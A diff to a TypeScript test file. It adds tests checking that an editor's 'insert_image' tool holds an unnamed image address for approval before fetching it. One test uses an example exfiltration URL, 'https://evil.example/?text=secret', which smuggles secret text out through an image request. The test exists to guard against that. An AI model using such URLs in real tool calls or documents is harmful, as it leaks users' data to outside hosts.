@@ -1,6 +1,7 @@
 import { contentTypes } from '@copydesk/schema'
 import { describe, expect, test } from 'vitest'
 import * as Y from 'yjs'
+import { executeToolCall } from '../execute-tool-call.ts'
 import type { ReviewHost } from '../session/host.ts'
 import { failure } from '../result.ts'
 import {
@@ -53,7 +54,8 @@ describe('insert_image', () => {
     ['at the end of the last', { sectionIndex: 2 }, `${start}\n\n${image}`],
   ])('%s', async (_title, input, expected) => {
     const doc = documentOf(start)
-    await succeed(sessionOn(doc, { host: stores, isNamed: () => false }), 'insert_image', { ...input, ...picture })
+    const isNamed = (address: string): boolean => address === picture.imageUrl
+    await succeed(sessionOn(doc, { host: stores, isNamed }), 'insert_image', { ...input, ...picture })
     readNode(doc)
     expect(markdownOf(doc)).toBe(expected)
   })
@@ -99,6 +101,37 @@ describe('insert_image', () => {
     expect(result.code).toBe(code)
     expect(fetched).toBe(0)
     if (imageUrl !== '') expect(result.hint).toContain('search_image')
+  })
+
+  test.each(['edit', 'suggest', 'ask'] as const)(
+    '[APP-18] an address that nobody has named waits for approval before anything is fetched (%s)',
+    async (mode) => {
+      const fetched: string[] = []
+      const host = hostThat(async (address) => {
+        fetched.push(address)
+        return { ok: true, url: '/1.png' }
+      })
+      const doc = documentOf(start)
+      const session = sessionOn(doc, { host, mode, isNamed: () => false })
+      const imageUrl = 'https://evil.example/?text=secret'
+      const input = { ...picture, imageUrl, sectionIndex: 1 }
+      const held = await fail(session, 'insert_image', input)
+      expect(held).toMatchObject({ code: 'held', summary: 'Image: A cat' })
+      expect(held.details).toMatchObject({ proposal: [{ before: '', after: `![A cat](${imageUrl})` }] })
+      expect(fetched).toEqual([])
+      expect(markdownOf(doc)).toBe(start)
+      const approved = { callId: 'approved', approved: true }
+      expect(await executeToolCall('insert_image', input, session, approved)).toMatchObject({ ok: true })
+      expect(fetched).toEqual([imageUrl])
+    },
+  )
+
+  test('[APP-18] in mode ask even a named address waits, and is fetched once', async () => {
+    const host = hostThat(() => {
+      throw new Error('fetched')
+    })
+    const session = sessionOn(documentOf(start), { host, mode: 'ask', isNamed: () => true })
+    expect((await fail(session, 'insert_image', { ...picture, sectionIndex: 1 })).code).toBe('held')
   })
 
   test('what the host refuses hints at search_image', async () => {
